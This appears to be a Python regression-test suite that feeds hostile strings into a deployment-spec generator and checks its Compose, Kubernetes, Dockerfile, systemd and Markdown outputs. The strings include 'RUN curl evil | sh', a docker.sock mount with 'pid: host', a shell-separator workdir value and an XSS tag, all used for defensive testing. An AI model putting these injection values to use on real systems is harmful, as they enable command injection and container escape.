#!/usr/bin/python3
"""Spec strings against every output (issue 22).

--matrix: every free-text and path field of the spec x a corpus of hostile
strings x every target. For each pair gen either writes every output, and
then each output parses, has exactly the structure of the baseline's (no
key, instruction, unit setting, Markdown block or command appears) and the
data fields round-trip exactly; or it refuses the spec with a diagnostic at
the field's own line (never one in a template or a verifier) and writes
nothing.

--cases: the numbered reproductions of issue 22 that are this suite's
(1, 2, 6, 8, 9), each an assertion that failed before the fix.

Usage: run.py --gen build/gen (--matrix | --cases)
"""
import argparse
import os
import re
import shutil
import subprocess
import sys
import tempfile

import yaml

# The spec every run starts from. @NAME@ marks a field under test; each
# is replaced by its default unless it is the field being tried.
BASE = """version: 1
project: demo
metadata:
  description: @PROJECT_DESC@
defaults:
  restart: unless-stopped
modules:
  api:
    description: @MODULE_DESC@
    build:
      stack: python-pip
      context: ./api
      from: python:3.12-slim
      manifests: [requirements.txt]
      sources: [app]
    command: [python, -m, app, --db, @COMMAND_WORD@]
    workdir: @WORKDIR@
    user: {uid: 1001, gid: 1001}
    ports:
      - {container: 8000, host: 8000, name: http}
    env:
      LOG_LEVEL:
        default: @ENV_VALUE@
        description: @ENV_DESC@
      DATABASE_URL: {secret: true, description: The database}
    mounts:
      - {tmpfs: @TMPFS@}
      - {own: data, target: @OWN_TARGET@}
    state: {target: @STATE_TARGET@}
    health:
      check: {http: @HEALTH_PATH@}
  cache:
    description: Cache
    image: redis:7-alpine
    command: [@CACHE_FIRST@, "no"]
    user: {uid: 999, gid: 999}
    ports:
      - {container: 6379, name: redis}
    health:
      check: {tcp: 6379}
profiles:
  prod: {env_file: @ENV_FILE@, image_tag: "${GIT_SHA}"}
"""

DEFAULTS = {
    "PROJECT_DESC": "Demo project",
    "MODULE_DESC": "The API",
    "ENV_DESC": "Log verbosity",
    "ENV_VALUE": "info",
    "COMMAND_WORD": "x",
    "CACHE_FIRST": "redis-server",
    "WORKDIR": "/app",
    "TMPFS": "/tmp",
    "OWN_TARGET": "/app/data",
    "STATE_TARGET": "/var/lib/api",
    "ENV_FILE": "{module}/.env.prod",
    "HEALTH_PATH": "/healthz",
}

# Fields whose value is data the container gets: it must come back exactly.
ROUND_TRIP = {"ENV_VALUE", "COMMAND_WORD"}

CORPUS = {
    "newline-keys": "worker\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n    pid: host",
    "newline-top": "x\nprivileged: true\nservices: {}",
    "instruction": "x\nRUN curl evil | sh",
    "unit-line": "x\nExecStartPre=/bin/sh -c 'touch /tmp/pwned'",
    "colon-hash": "a: b # c",
    "quotes": "it's \"quoted\"",
    "dollar-brace": "${HOME}/x",
    "dollar-paren": "--database=$(DATABASE_URL)",
    "double-dollar": "$$(X) $$ $",
    "percent": "100%h %n %%",
    "backslash": "a\\b\\",
    "trailing-space": "/tmp ",
    "leading-space": " lead",
    "nul": "a\x00b",
    "esc": "a\x1b[31mred",
    "tab": "a\tb",
    "cr": "a\r\nb",
    "unicode": "d\u00e9j\u00e0 \U0001F600 \u4e2d",
    "nel-ls-ps": "a\u0085b\u2028c\u2029d",
    "bom": "\ufeffx",
    "leading-dash": "--appendonly",
    "star": "*",
    "html-md": "<script>alert(1)</script> **bold** [x](http://e) `c` | cell",
    "heading": "# Title",
    "semicolon": "/app;touch${IFS}/tmp/x;:",
    "mount-syntax": "/a:/b,ro {x}",
    "yaml-words": "yes",
    "backtick-fence": "```\nflowchart",
    "html-comment-end": "--> <b>",
}


def yaml_quote(s):
    """s as a YAML double-quoted scalar that any YAML reader gives back."""
    out = ['"']
    for ch in s:
        cp = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\t":
            out.append("\\t")
        elif cp < 0x20 or cp == 0x7F or 0x80 <= cp <= 0x9F or cp in (0x2028, 0x2029, 0xFEFF):
            out.append("\\u%04x" % cp)
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def spec_text(field=None, value=None):
    text = BASE
    for name, default in DEFAULTS.items():
        v = value if name == field else default
        text = text.replace("@%s@" % name, yaml_quote(v))
    return text


def marker_line(field):
    for i, line in enumerate(BASE.split("\n"), 1):
        if "@%s@" % field in line:
            return i
    raise KeyError(field)


def run_gen(gen, spec, workdir, command="all", extra=()):
    if os.path.exists(workdir):
        shutil.rmtree(workdir)
    os.makedirs(workdir)
    path = os.path.join(workdir, "spec.yaml")
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(spec)
    out = os.path.join(workdir, "out")
    p = subprocess.run([gen, command, "--spec", path, "--out", out, *extra],
                       capture_output=True, env=dict(os.environ, NO_COLOR="1"), timeout=60)
    return p.returncode, p.stderr.decode("utf-8", "replace"), out


def files_of(out):
    found = {}
    if not os.path.isdir(out):
        return found
    for root, _, names in os.walk(out):
        for n in names:
            full = os.path.join(root, n)
            with open(full, "rb") as f:
                found[os.path.relpath(full, out)] = f.read().decode("utf-8")
    return found


# ------------------------------------------------------------ structures

def key_paths(node, prefix=""):
    paths = set()
    if isinstance(node, dict):
        for k, v in node.items():
            p = "%s/%s" % (prefix, k)
            paths.add(p)
            paths |= key_paths(v, p)
    elif isinstance(node, list):
        for v in node:
            paths |= key_paths(v, prefix + "[]")
    return paths


def logical_lines(text, continuation="\\"):
    """Lines with backslash continuations joined, comments dropped (as
    Dockerfile and systemd readers do: comment lines never continue)."""
    lines, cur = [], None
    for raw in text.split("\n"):
        stripped = raw.strip()
        if stripped.startswith("#") or (cur is None and stripped.startswith(";")):
            continue
        piece = raw.rstrip()
        if piece.endswith(continuation):
            cur = (cur or "") + piece[:-1] + " "
            continue
        line = (cur or "") + piece
        cur = None
        if line.strip():
            lines.append(line)
    if cur:
        lines.append(cur)
    return lines


def dockerfile_structure(text):
    return [line.split()[0].upper() for line in logical_lines(text)]


def unit_structure(text):
    out = []
    for line in logical_lines(text):
        s = line.strip()
        if s.startswith("["):
            out.append(s)
        elif "=" in s:
            out.append(s.split("=", 1)[0])
        else:
            out.append("?" + s)
    return out


def markdown_structure(text):
    """One token per line: fences, headings, table rows with their cell
    count, list items, paragraphs; raw HTML tags counted (the baseline's
    <!-- header --> and Mermaid's <br/> are the only ones)."""
    out, fence = [], False
    for line in text.split("\n"):
        if line.startswith("```"):
            fence = not fence
            out.append("fence")
            continue
        if fence:
            out.append("code")
            continue
        if line.startswith("#"):
            out.append(line.split(" ")[0])
        elif line.startswith("|"):
            cells = len(re.findall(r"(?<!\\)\|", line))
            out.append("row%d" % cells)
        elif line.startswith("- "):
            out.append("item")
        elif line.strip():
            out.append("p")
        else:
            out.append("")
    prose = re.sub(r"(`+)(.+?)\1", "", text)  # code spans show tags as text
    tags = len(re.findall(r"(?<!\\)<[A-Za-z!/]", prose))
    out.append("tags%d" % tags)
    return out


def structure(name, text):
    if name.endswith(".yaml"):
        return sorted(set().union(*[key_paths(d) for d in yaml.safe_load_all(text)] or [set()]))
    if name.endswith("Dockerfile"):
        return dockerfile_structure(text)
    if name.endswith(".sh"):
        subprocess.run(["sh", "-n", "-c", text], check=True, capture_output=True)
        return None
    if name.endswith((".container", ".service", ".volume", ".network")):
        return unit_structure(text)
    if name.endswith(".md"):
        return markdown_structure(text)
    return None


def is_subsequence(small, big):
    it = iter(big)
    return all(any(x == y for y in it) for x in small)


def same_structure(name, got, base):
    """Equal, except that a Dockerfile may lose an instruction (a value with
    a line break is not baked into the image): nothing may appear."""
    if name.endswith("Dockerfile"):
        return is_subsequence(got, base)
    return got == base


# ------------------------------------------------------------ round trips

def compose_unescape(s):
    return s.replace("$$", "$") if isinstance(s, str) else s


def k8s_expand(s):
    """What Kubernetes passes for a command or args item (no variables set:
    $(VAR) of an unknown VAR stays as written, $$ reads as $)."""
    out, i = [], 0
    while i < len(s):
        if s[i] == "$" and i + 1 < len(s) and s[i + 1] == "$":
            out.append("$")
            i += 2
        else:
            out.append(s[i])
            i += 1
    return "".join(out)


def round_trip(field, value, files):
    problems = []
    compose = yaml.safe_load(files["compose.yaml"])
    api = compose["services"]["api"]
    if field == "COMMAND_WORD":
        got = compose_unescape(api["command"][4])
        if got != value:
            problems.append("compose command gives %r" % got)
        sts = yaml.safe_load(files["k8s/base/modules/api/statefulset.yaml"])
        args = sts["spec"]["template"]["spec"]["containers"][0]["args"]
        if k8s_expand(args[4]) != value:
            problems.append("k8s args give %r" % k8s_expand(args[4]))
        cmd = [l for l in logical_lines(files["api/Dockerfile"]) if l.startswith("CMD ")][-1]
        import json
        if json.loads(cmd[4:])[4] != value:
            problems.append("Dockerfile CMD gives %r" % json.loads(cmd[4:])[4])
    if field == "ENV_VALUE":
        env = api.get("environment") or {}
        if compose_unescape(env.get("LOG_LEVEL")) != value:
            problems.append("compose environment gives %r" % env.get("LOG_LEVEL"))
        cm = yaml.safe_load(files["k8s/base/modules/api/configmap-env.yaml"])
        if cm["data"].get("LOG_LEVEL") != value:
            problems.append("k8s ConfigMap gives %r" % cm["data"].get("LOG_LEVEL"))
    return problems


# ------------------------------------------------------------ the matrix

def matrix(gen, tmp):
    rc, err, out = run_gen(gen, spec_text(), os.path.join(tmp, "base"), extra=["--profile", "prod"])
    if rc != 0:
        print("baseline spec fails:\n" + err)
        return 1
    base_files = files_of(out)
    base = {n: structure(n, t) for n, t in base_files.items()}
    failures = 0
    runs = 0
    for field in DEFAULTS:
        line = marker_line(field)
        for label, value in CORPUS.items():
            runs += 1
            where = "%s x %s" % (field, label)
            rc, err, out = run_gen(gen, spec_text(field, value), os.path.join(tmp, "run"),
                                   extra=["--profile", "prod"])
            problems = []
            if rc == 1:
                if "builtin:" in err or "error[template" in err or "error[verify" in err:
                    problems.append("refused by a template or verifier, not at the spec")
                if not re.search(r"spec\.yaml:%d:\d+: error\[" % line, err):
                    problems.append("no error at spec.yaml:%d" % line)
                if files_of(out):
                    problems.append("files written although refused")
            elif rc == 0:
                files = files_of(out)
                if set(files) != set(base_files):
                    problems.append("files differ: %s" % sorted(set(files) ^ set(base_files)))
                for name, text in sorted(files.items()):
                    try:
                        s = structure(name, text)
                    except Exception as e:  # noqa: BLE001 - any parse failure is the finding
                        problems.append("%s does not parse: %s" % (name, str(e).split("\n")[0]))
                        continue
                    if name in base and not same_structure(name, s, base[name]):
                        problems.append("%s changed structure" % name)
                if not problems and field in ROUND_TRIP:
                    problems += round_trip(field, value, files)
            else:
                problems.append("exit %d" % rc)
            if problems:
                failures += 1
                print("FAIL %s: %s" % (where, "; ".join(problems)))
                if err.strip():
                    print("   " + err.strip().split("\n")[0])
    print("%d of %d field x string runs failed" % (failures, runs))
    return 1 if failures else 0


# ------------------------------------------------------------ numbered cases

def cases(gen, tmp):
    failures = []

    def check(name, ok, detail=""):
        print(("ok   " if ok else "FAIL ") + name + ("" if ok else ": " + detail))
        if not ok:
            failures.append(name)

    # 1. Shell injection through workdir: refused at the spec, nothing written.
    rc, err, out = run_gen(gen, spec_text("WORKDIR", "/app;touch${IFS}/tmp/x;:"), os.path.join(tmp, "c1"))
    check("1 workdir with shell syntax is refused at its spec line",
          rc == 1 and re.search(r"spec\.yaml:%d:\d+: error\[" % marker_line("WORKDIR"), err) is not None
          and not files_of(out), "exit %d: %s" % (rc, err.strip()[:300]))

    # 2. A newline in a description stays inside its comment.
    value = CORPUS["newline-keys"]
    rc, err, out = run_gen(gen, spec_text("MODULE_DESC", value), os.path.join(tmp, "c2"))
    files = files_of(out)
    ok = rc == 0
    if ok:
        svc = yaml.safe_load(files["compose.yaml"])["services"]["api"]
        ok = "pid" not in svc and "volumes" in svc and all(
            "docker.sock" not in str(v) for v in svc["volumes"])
    check("2 module description newline adds no compose key", ok, "exit %d: %s" % (rc, err.strip()[:300]))
    rc, err, out = run_gen(gen, spec_text("PROJECT_DESC", CORPUS["newline-top"]), os.path.join(tmp, "c2b"))
    files = files_of(out)
    # networks: gen's own (the default network declared internal).
    ok = rc == 0 and set(yaml.safe_load(files["compose.yaml"])) == {"name", "services", "volumes",
                                                                    "networks"}
    check("2 metadata.description newline adds no top-level key", ok,
          "exit %d: %s" % (rc, err.strip()[:300]))
    rc, err, out = run_gen(gen, spec_text("MODULE_DESC", CORPUS["instruction"]), os.path.join(tmp, "c2c"))
    files = files_of(out)
    ok = rc == 0 and "RUN" not in [w for w in dockerfile_structure(files["api/Dockerfile"])][:1] and \
        not any(l.startswith("RUN curl") for l in files["api/Dockerfile"].split("\n"))
    check("2 description newline adds no Dockerfile instruction", ok, "exit %d: %s" % (rc, err.strip()[:300]))

    # 6. A command whose first word starts with '-' renders for Quadlet.
    rc, err, out = run_gen(gen, spec_text("CACHE_FIRST", "--appendonly"), os.path.join(tmp, "c6"))
    files = files_of(out)
    ok = rc == 0 and 'Exec="--appendonly" "no"' in files.get("systemd/cache.container", "")
    check("6 command starting with '-' renders Exec= for Quadlet", ok, "exit %d: %s" % (rc, err.strip()[:300]))

    # 8. $(VAR) stays literal on Kubernetes as on compose and Quadlet.
    value = "--database=$(DATABASE_URL)"
    rc, err, out = run_gen(gen, spec_text("COMMAND_WORD", value), os.path.join(tmp, "c8"))
    files = files_of(out)
    ok = rc == 0
    if ok:
        sts = yaml.safe_load(files["k8s/base/modules/api/statefulset.yaml"])
        args = sts["spec"]["template"]["spec"]["containers"][0]["args"]
        compose = yaml.safe_load(files["compose.yaml"])["services"]["api"]["command"]
        ok = args[4] == "--database=$$(DATABASE_URL)" and compose_unescape(compose[4]) == value
    check("8 $(VAR) is escaped as $$( in Kubernetes args", ok, "exit %d: %s" % (rc, err.strip()[:300]))

    # 9. Valid specs, working outputs.
    multi_line = spec_text().replace('description: "The API"',
                                     "description: |\n      First line.\n      RUN echo injected\n")
    rc, err, out = run_gen(gen, multi_line, os.path.join(tmp, "c9a"))
    check("9 multi-line description: gen all succeeds", rc == 0, err.strip()[:300])
    rc, err, out = run_gen(gen, multi_line, os.path.join(tmp, "c9b"), command="dockerfile")
    files = files_of(out)
    ok = rc == 0 and not any(l.startswith("RUN echo injected") for l in files.get("api/Dockerfile", "").split("\n"))
    check("9 gen dockerfile writes no instruction from a description", ok, "exit %d: %s" % (rc, err.strip()[:300]))
    for label in ("nul", "esc"):
        rc, err, out = run_gen(gen, spec_text("MODULE_DESC", CORPUS[label]), os.path.join(tmp, "c9c"))
        ok = rc == 1 and re.search(r"spec\.yaml:%d:\d+: error\[" % marker_line("MODULE_DESC"), err) and \
            not files_of(out)
        check("9 %s in a description is refused at the spec" % label, bool(ok), "exit %d: %s" % (rc, err.strip()[:300]))
    for field, value in (("MODULE_DESC", "ends with space "), ("MODULE_DESC", "ends with backslash\\")):
        rc, err, out = run_gen(gen, spec_text(field, value), os.path.join(tmp, "c9d"))
        check("9 description %r renders" % value, rc == 0, err.strip()[:300])
    for field, value in (("TMPFS", "/tmp "), ("TMPFS", "/tmp\\"), ("STATE_TARGET", "/data "),
                         ("STATE_TARGET", "/data\\"), ("ENV_FILE", "{module}/.env "),
                         ("ENV_FILE", "{module}/.env\\"), ("OWN_TARGET", "/app:/x"),
                         ("STATE_TARGET", "/data:ro")):
        rc, err, out = run_gen(gen, spec_text(field, value), os.path.join(tmp, "c9e"),
                               extra=["--profile", "prod"])
        ok = rc == 1 and re.search(r"spec\.yaml:%d:\d+: error\[" % marker_line(field), err) and \
            "builtin:" not in err and not files_of(out)
        check("9 %s %r is refused at the spec" % (field, value), bool(ok), "exit %d: %s" % (rc, err.strip()[:300]))
    for field, value in (("OWN_TARGET", "/app/$x"), ("OWN_TARGET", "/app/%h"), ("OWN_TARGET", "/app/{}"),
                         ("TMPFS", "/tmp/$x %h {}")):
        rc, err, out = run_gen(gen, spec_text(field, value), os.path.join(tmp, "c9g"),
                               extra=["--profile", "prod"])
        check("9 %s %r renders" % (field, value), rc == 0, err.strip()[:300])
    rc, err, out = run_gen(gen, spec_text("MODULE_DESC", CORPUS["html-md"]), os.path.join(tmp, "c9f"))
    files = files_of(out)
    contract = files.get("CONTRACT.md", "")
    ok = rc == 0 and "\\<script>" in contract and not re.search(r"(?<!\\)(<script>|\*\*bold|\[x\])", contract)
    check("9 Markdown/HTML in a description is escaped in CONTRACT.md", ok, "exit %d: %s" % (rc, err.strip()[:300]))

    print("%d case(s) failed" % len(failures))
    return 1 if failures else 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--gen", required=True)
    mode = ap.add_mutually_exclusive_group(required=True)
    mode.add_argument("--matrix", action="store_true")
    mode.add_argument("--cases", action="store_true")
    args = ap.parse_args()
    gen = os.path.abspath(args.gen)
    with tempfile.TemporaryDirectory(prefix="gen-escaping-") as tmp:
        return matrix(gen, tmp) if args.matrix else cases(gen, tmp)


if __name__ == "__main__":
    sys.exit(main())
